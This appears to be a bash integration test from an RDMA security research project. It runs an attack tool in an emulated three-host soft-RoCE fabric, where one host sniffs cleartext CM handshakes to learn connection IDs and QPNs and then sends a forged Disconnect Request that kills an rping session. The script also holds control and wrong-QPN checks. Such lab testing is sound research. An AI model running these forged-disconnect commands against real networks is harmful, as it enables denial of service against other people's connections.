# SPDX-License-Identifier: MIT
# NeVerMore §4.3 on real rxe: rping (rdma_cm) runs between host 1 (server)
# and host 2 (client). Host 3 watches the bridge, learns the connection's
# communication IDs and QPNs from its cleartext CM REQ and REP, and sends
# host 2 a forged Disconnect Request as if from host 1. rping's client must
# get RDMA_CM_EVENT_DISCONNECTED and stop long before its 100000 pings. A
# DREQ naming the wrong QPN must change nothing, and a control run without
# the attack must complete its count.
. "$(dirname "$0")/common.bash"

atk=$build/tools/attack/rdmasec-attack
[ -x "$atk" ] || fail "build rdmasec-attack first ($atk)"

# No privilege needed for these: the help, the target guard, a built DREQ.
"$atk" cm-disconnect --help | grep -q -- '--remote-comm-id' || fail "cm-disconnect --help is incomplete"
"$atk" cm-disconnect --dst 192.0.2.1 --src 192.0.2.2 --local-comm-id 1 --remote-comm-id 2 \
	--remote-qpn 0x11 --no-send 2>"$work/refused"
[ $? -eq 2 ] && grep -q 'refusing to target 192.0.2.1' "$work/refused" ||
	fail "a target outside the fabric was not refused"
"$atk" cm-disconnect --dst 10.77.0.2 --src 10.77.0.1 --local-comm-id 0x12345678 --remote-comm-id 0x9abcdef0 \
	--remote-qpn 0x11 --tid 7 --no-send --pcap "$work/dreq.pcap" --json >"$work/built.json" ||
	fail "cm-disconnect --no-send failed"
if command -v tshark >/dev/null; then
	tshark -r "$work/dreq.pcap" -V 2>/dev/null >"$work/dreq.txt"
	expect_match "$work/dreq.txt" 'Attribute ID: 0x0015' "tshark does not decode a CM DREQ"
	expect_match "$work/dreq.txt" 'Remote Communication ID: 0x9abcdef0' "tshark reads another remote comm ID"
fi

cat >"$work/scenario.sh" <<SCENARIO
set -u
cd $work
srv() { fabric on 1 timeout 40 stdbuf -oL -eL rping -s -v -a 10.77.0.1 -p \$1 -S 64; }
cli() { fabric on 2 timeout 30 stdbuf -oL -eL rping -c -v -a 10.77.0.1 -I 10.77.0.2 -p \$1 -S 64 -C \$2; }
wait_listen() {
	for _ in \$(seq 1 100); do
		rdma resource show cm_id 2>/dev/null | grep -q "state LISTEN .*src-addr 10.77.0.1:\$1" && return 0
		sleep 0.1
	done
	return 1
}

# Control: 300 pings, nobody attacks.
srv 7174 >control-srv.log 2>&1 &
wait_listen 7174 || echo "control server does not listen"
cli 7174 300 >control-cli.log 2>&1
echo "control client exit \$?"
wait

# Attack: the attacker listens before the client connects.
srv 7175 >attack-srv.log 2>&1 &
wait_listen 7175 || echo "attack server does not listen"
fabric on 3 $atk cm-disconnect --dst 10.77.0.2 --sniff fabbr --iface fab3 --timeout 20 --no-send \\
	--json >learn.json 2>learn.err &
learner=\$!
for _ in \$(seq 1 100); do grep -q listening learn.err && break; sleep 0.1; done
cli 7175 100000 >attack-cli.log 2>&1 &
client=\$!
wait \$learner
echo "learned: \$(cat learn.json)"
field() { sed -n "s/.*\"\$1\":\"\([^\"]*\)\".*/\1/p" learn.json; }
sleep 1
ids="--local-comm-id \$(field local_comm_id) --remote-comm-id \$(field remote_comm_id) --tid 0x1234"
# Wrong QPN: the CM must ignore it.
fabric on 3 $atk cm-disconnect --dst 10.77.0.2 --src \$(field src) \$ids --remote-qpn \$((\$(field remote_qpn) + 1)) \\
	--iface fab3 --json >wrong.json
sleep 1.5
echo "pings after the wrong-QPN DREQ: \$(grep -c 'ping data' attack-cli.log), client alive: \$(kill -0 \$client 2>/dev/null && echo yes || echo no)"
fabric on 3 $atk cm-disconnect --dst 10.77.0.2 --src \$(field src) \$ids --remote-qpn \$(field remote_qpn) \\
	--iface fab3 --json
# rping's client either ends by itself or hangs in its clean-up (its CQ
# thread may wait for a flush completion rxe never signals): what the attack
# must show is that the pinging stopped, so count the pings 3 s after the
# DREQ and again once the client has gone.
sleep 3
echo "attack client pings 3 s after the DREQ: \$(grep -c 'ping data' attack-cli.log)"
for _ in \$(seq 1 20); do kill -0 \$client 2>/dev/null || break; sleep 0.1; done
kill -0 \$client 2>/dev/null && { echo "attack client still in its clean-up"; pkill -f 'rping -c -v -a 10.77.0.1 -I 10.77.0.2 -p 7175'; }
wait \$client
echo "attack client exit \$?"
echo "attack client pings: \$(grep -c 'ping data' attack-cli.log)"
wait
SCENARIO

"$fabric" run --hosts 3 --timeout 120 "${build_share[@]}" -- bash "$work/scenario.sh" >"$work/out" 2>&1 ||
	{ cat "$work/out"; fail "the fabric run failed"; }
cat "$work/out"
for f in control-cli attack-srv attack-cli; do grep -v 'ping data' "$work/$f.log" | sed "s/^/$f: /"; done

expect_match "$work/out" '^control client exit 0$' "the control run did not complete"
expect_match "$work/control-cli.log" 'rdma-ping-299: ' "the control run did not finish its 300 pings"
expect_match "$work/out" '^learned: \{"cmd":"cm-disconnect".*"learned":true.*"dst_role":"active"' \
	"the attacker did not learn the connection from its REQ/REP"
expect_match "$work/out" 'client alive: yes' "a DREQ with the wrong QPN disconnected the client"
expect_match "$work/out" '^\{"cmd":"cm-disconnect","dst":"10.77.0.2","src":"10.77.0.1".*"sent":1,"ok":true' \
	"the forged DREQ was not sent"
expect_match "$work/attack-cli.log" 'client DISCONNECT EVENT' "rping's client saw no DISCONNECTED event"
# rping's ping loop breaks off after the event: "wait for RDMA_WRITE_ADV state N".
# N is whatever rping's threads left in its unlocked state variable: 10
# (DISCONNECTED), 9 when a flushed completion came after the event, 6 when
# the ping loop's own "state = RDMA_READ_ADV" came after it (seen in CI).
# What shows the stop is the order: the event first, then the loop's exit.
awk '/client DISCONNECT EVENT/ { ev = 1 } /^wait for RDMA_[A-Z_]+ state [0-9]+$/ && ev { ok = 1 } END { exit !ok }' \
	"$work/attack-cli.log" || fail "rping's client did not stop on the disconnect"
# The pinging stopped with the disconnect: no ping after the 3 s mark.
expect_match "$work/out" '^attack client exit [0-9]+$' "no exit status for the attacked client"
after=$(sed -n 's/^attack client pings 3 s after the DREQ: \([0-9]*\)$/\1/p' "$work/out")
final=$(sed -n 's/^attack client pings: \([0-9]*\)$/\1/p' "$work/out")
[ -n "$after" ] && [ "$after" = "$final" ] || fail "rping's client kept pinging after the disconnect ($after then $final)"
! grep -q 'rdma-ping-99999: ' "$work/attack-cli.log" || fail "the client finished all its pings despite the attack"
echo "attack_cm_disconnect: ok"
